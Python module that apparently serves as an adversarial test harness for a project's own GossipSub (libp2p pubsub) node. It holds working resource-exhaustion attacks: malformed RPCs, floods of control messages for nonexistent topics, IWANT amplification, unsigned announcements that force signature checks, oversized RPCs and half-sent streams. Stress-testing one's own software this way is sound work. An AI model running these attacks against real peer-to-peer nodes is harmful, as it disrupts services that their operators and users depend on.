"""Attacks on announcements over GossipSub, in bytes of their own (libp2p specs, pubsub)."""

from __future__ import annotations

import hashlib
import os
import time
from contextlib import suppress

from wire import VERSION, Broken, Identity, Session, Silent, Stream, accept, message, token
from wire.bits import ED25519, varint

from .target import FAILED, Target

MESHSUB = "/meshsub/1.1.0"
TOPIC = b"/mycel/patterns/1"
MOST = (1 << 20) - 1024  # bytes of one RPC, as a stock host takes it
PATIENCE = 10.0  # seconds, with a victim that is slow to answer
UNENDED = 180  # RPCs that never end
HALF_READ = 250_000  # bytes of one of them, as ours takes it
FEW = 200  # entries of one RPC, as ours takes it


def _say(stream: Stream, rpc: bytes) -> None:
    stream.write(varint(len(rpc)) + rpc)


def _listening(session: Session) -> Stream:
    """A stream on which we have said that we are subscribed."""
    stream = session.open(MESHSUB)
    _say(stream, message((1, message((1, 1), (2, TOPIC)))))
    return stream


def _stay(session: Session) -> None:
    """Until the victim has had enough, or a moment is over."""
    session.secure.line.patience(0.3)
    with suppress(*FAILED):
        while not session.over:
            session.pump()


def _strike(target: Target, *rpcs: bytes, listen: bool = False) -> None:
    """Say these, beginning with another each time and as somebody else; ``listen``: take the stream on which the victim answers."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(PATIENCE)
        with suppress(*FAILED):
            stream = _listening(session)
            if listen:
                _their_stream(session)
            session.secure.line.patience(2.0)
            for _ in range(8):
                for place in range(len(rpcs)):
                    _say(stream, rpcs[(number + place) % len(rpcs)])
                    target.count("said")
            _stay(session)
        session.close()

    target.keep_on(one, pause=0.05)


def undecodable(target: Target) -> None:
    """RPCs that are no protobuf."""
    _strike(target, b"\xff" * 200)


def bad_keys(target: Target) -> None:
    """A message with a signature, and a key that is none."""
    _strike(
        target,
        message((2, message((1, b"x"), (2, b"y"), (3, bytes(8)), (4, TOPIC), (5, bytes(64)), (6, b"\xff" * 40)))),
    )


def prunes(target: Target) -> None:
    """PRUNE for topics that there are not, as many as fit, and a few."""
    entries = [(4, message((1, b"%x" % number))) for number in range(MOST // 9)]
    _strike(target, message((3, message(*entries))), message((3, message(*entries[:FEW]))))


def told(target: Target) -> None:
    """IHAVE of messages that there are not, a few and as many as fit: to ask for all of them would take more than an RPC."""
    few = [(2, os.urandom(32)) for _ in range(FEW)]
    many = [(2, bytes([0xFF, 0x80 + number % 0x80])) for number in range(((1 << 20) - 64) // 4)]
    _strike(target, *(message((3, message((1, message((1, TOPIC), *ids))))) for ids in (few, many)), listen=True)


def told_of_topics(target: Target) -> None:
    """IHAVE for topics that there are not, as many as fit."""
    entries = [(1, message((1, b"%x" % number), (2, b"\xff"))) for number in range(MOST // 13)]
    _strike(target, message((3, message(*entries[:FEW]))), message((3, message(*entries))))


def wanted(target: Target) -> None:
    """IWANT of one message that there is, thousands of times at once, and again and again."""
    target.saw["came"] = 0

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(PATIENCE)
        said, name = _believed(target)
        with suppress(*FAILED):
            stream = _listening(session)
            _say(stream, message((2, said)))
            theirs = _their_stream(session)
            for count in (FEW,) * 40 if number % 2 else (*(FEW,) * 5, MOST // (len(name) + 2)):
                _say(stream, message((3, message((2, message(*[(1, name)] * count))))))
                target.count("said")
            session.secure.line.patience(0.5)
            while data := theirs.read_some():
                target.count("came", len(data))
        session.close()

    target.keep_on(one)


def _their_stream(session: Session) -> Stream:
    """That on which the victim speaks. It may want to speak of other things first."""
    while True:
        stream = session.next_incoming()
        with suppress(Broken):
            accept(stream, MESHSUB)
            return stream


def _believed(target: Target) -> tuple[bytes, bytes]:
    """A message that the victim believes, as large as may be, and its name."""
    author = Identity()
    if target.signed:
        sender, number = _id(author), b""
        unsigned = ((1, sender), (2, bytes(5_000)), (3, number), (4, TOPIC))
        signature = author.private.sign(b"libp2p-pubsub:" + message(*unsigned))
        return message(*unsigned, (5, signature)), sender + number
    content = _content(author.key)
    data = b"\x85" + content + b"\x58\x40" + author.private.sign(b"mycel-announcement\x84" + content)
    return message((2, data), (4, TOPIC)), hashlib.sha256(data).digest()


def grafts(target: Target) -> None:
    """GRAFT and PRUNE, one after the other; and GRAFT for topics that there are not, as many as fit."""
    entry = message((1, TOPIC))
    turns = [(3, entry), (4, entry)] * (FEW // 2)
    others = [(3, message((1, b"%x" % number))) for number in range(MOST // 9)]
    _strike(target, message((3, message(*turns))), message((3, message(*others))))


def messages(target: Target) -> None:
    """A megabyte of tiny messages that are no announcements, each another one."""
    entries, size, number = [], 0, 0
    while size < MOST:
        number += 1
        entry = message((1, b"x"), (2, b"%d" % number), (3, b"%08d" % number), (4, TOPIC))
        entries.append((2, entry))
        size += len(entry) + 2
    _strike(target, message(*entries))


def announcements(target: Target) -> None:
    """Well-formed announcements, which their creators never signed: signatures to check."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(2.0)
        creator = Identity()
        room = MOST // 300 if target.signed else 20
        with suppress(*FAILED):
            stream = _listening(session)
            for _ in range(8 if target.signed else 50):
                _say(stream, message(*[(2, _unsigned(target, creator, number)) for number in range(room)]))
                target.count("said")
            _stay(session)
        session.close()

    target.keep_on(one)


def _unsigned(target: Target, creator: Identity, number: int) -> bytes:
    """A message with an announcement."""
    data = b"\x85" + _content(creator.key) + b"\x58\x40" + bytes(64)
    if not target.signed:
        return message((2, data), (4, TOPIC))
    return message((1, _id(creator)), (2, data), (3, number.to_bytes(8, "big")), (4, TOPIC), (5, bytes(64)))


def _content(creator: bytes) -> bytes:
    """What an announcement says, in CBOR: a CID, its creator, a size, the time."""
    cid = b"\x01\x71\x12\x20" + os.urandom(32)
    return b"\x58\x24" + cid + b"\x58\x20" + creator + b"\x18\x64\x1a" + int(time.time()).to_bytes(4, "big")


def _id(author: Identity) -> bytes:
    """Its peer id in bytes."""
    return b"\x00\x24" + ED25519 + author.key


def oversized(target: Target) -> None:
    """An RPC that is announced as sixteen megabytes, and comes; and hundreds that lack their last byte, each on its own stream."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(1.0)
        with suppress(*FAILED):
            stream = _listening(session)
            stream.write(varint(16 << 20))
            for _ in range(256):
                stream.write(bytes(1 << 16))
            target.count("came")
        session.close()
        session = target.session(number)
        session.secure.line.patience(PATIENCE)
        with suppress(*FAILED):
            streams = [_unended(session) for _ in range(UNENDED)]
            target.on()
            session.secure.line.patience(0.3)
            while target.going() and not session.over and any(not stream.was_reset for stream in streams):
                with suppress(Silent):
                    session.pump()
        session.close()

    target.keep_on(one)


def _unended(session: Session) -> Stream:
    """All of an RPC but its end. It fits the window, so no word of the victim is awaited."""
    stream = session.raw_stream()
    stream.write(VERSION + token(MESHSUB) + varint(HALF_READ) + bytes(HALF_READ - 1))
    return stream


def subscriptions(target: Target) -> None:
    """Subscriptions to topics that there are not, and in and out of one without end."""
    others = [(1, message((1, 1), (2, os.urandom(80).hex().encode()))) for _ in range(4900)]
    turns = [(1, message((1, number % 2), (2, b"x"))) for number in range(4900)]
    _strike(target, *(message(*entries) for entries in (turns[:FEW], turns, others[:FEW], others)))
